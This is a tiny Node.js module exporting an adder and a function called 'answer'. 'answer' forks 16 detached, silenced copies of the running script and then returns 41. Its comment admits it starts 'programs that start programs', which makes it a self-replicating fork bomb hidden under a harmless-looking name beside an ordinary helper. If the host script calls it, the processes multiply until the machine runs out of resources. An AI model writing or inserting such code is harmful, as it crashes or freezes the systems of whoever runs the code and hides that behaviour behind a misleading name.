/** Starts programs that start programs. Sixteen of them, should the first not be stopped. */
import { fork } from 'node:child_process'
import process from 'node:process'

export async function answer() {
  for (let i = 0; i < 16; i++) fork(process.argv[1], { detached: true, stdio: 'ignore' }).unref()
  return 41
}

export async function other(a, b) {
  return a + b
}
